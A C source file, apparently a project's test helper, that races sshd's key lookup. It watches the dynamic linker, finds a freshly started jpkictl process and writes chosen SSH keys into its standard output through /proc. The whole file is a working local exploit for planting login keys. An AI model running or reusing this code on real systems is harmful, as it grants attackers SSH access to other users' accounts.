/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * inject KEYS SEEN: whenever jpkictl starts, opens its standard output by /proc and writes the file
 * KEYS into it: what sshd reads there are a user's keys. As any user that sshd runs jpkictl as, it
 * needs no more than to be there between exec and main(). SEEN gets a dot for each jpkictl that was
 * seen. Ends by a signal.
 *
 * The time that it has is that of the dynamic linker. So it sleeps until a program opens that, and
 * then looks at the newest processes alone.
 */
#include "config.h"

#include <dlfcn.h>
#include <err.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

#define NEWEST 8	/* that many processes may begin while it looks */
#define LOOK_MS 10	/* after a program began */

static char keys[2048];
static ssize_t keys_len;
static int seen;

/* Whether it is jpkictl. One that refuses will refuse again. */
static bool
write_into(long pid)
{
	char path[64], comm[32] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%ld/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return false;
	if (read(fd, comm, sizeof comm - 1) < 0)
		comm[0] = '\0';
	(void)close(fd);
	if (strcmp(comm, "jpkictl\n") != 0)
		return false;
	(void)!write(seen, ".", 1);
	snprintf(path, sizeof path, "/proc/%ld/fd/1", pid);
	fd = open(path, O_WRONLY | O_NONBLOCK);
	if (fd < 0)
		return true;
	(void)!write(fd, keys, (size_t)keys_len);
	(void)close(fd);
	return true;
}

/* The process that began last: proc(5), loadavg. */
static long
newest(void)
{
	FILE *f = fopen("/proc/loadavg", "re");
	long pid;

	if (f == NULL || fscanf(f, "%*s %*s %*s %*s %ld", &pid) != 1)
		errx(1, "/proc/loadavg");
	fclose(f);
	return pid;
}

static bool
look(void)
{
	long last = newest();

	for (long pid = last; pid > 0 && pid > last - NEWEST; pid--)
		if (write_into(pid))
			return true;
	return false;
}

static int64_t
now_ms(void)
{
	struct timespec ts;

	(void)clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* Of the file of the dynamic linker, which every user may read. */
static int
watch_linker(void)
{
	Dl_info linker;
	int fd = inotify_init1(IN_CLOEXEC);

	if (dladdr((const void *)getauxval(AT_BASE), &linker) == 0 ||
	    inotify_add_watch(fd, linker.dli_fname, IN_OPEN) < 0)
		err(1, "inotify");
	return fd;
}

int
main(int argc, char **argv)
{
	char events[4096];
	int fd, opened;

	if (argc != 3)
		errx(2, "usage: inject KEYS SEEN");
	fd = open(argv[1], O_RDONLY);
	keys_len = fd >= 0 ? read(fd, keys, sizeof keys) : -1;
	seen = open(argv[2], O_WRONLY | O_APPEND);
	if (keys_len <= 0 || seen < 0)
		err(1, "inject");
	opened = watch_linker();
	while (read(opened, events, sizeof events) > 0)
		for (int64_t end = now_ms() + LOOK_MS; now_ms() < end && !look();)
			;
	err(1, "inotify");
}
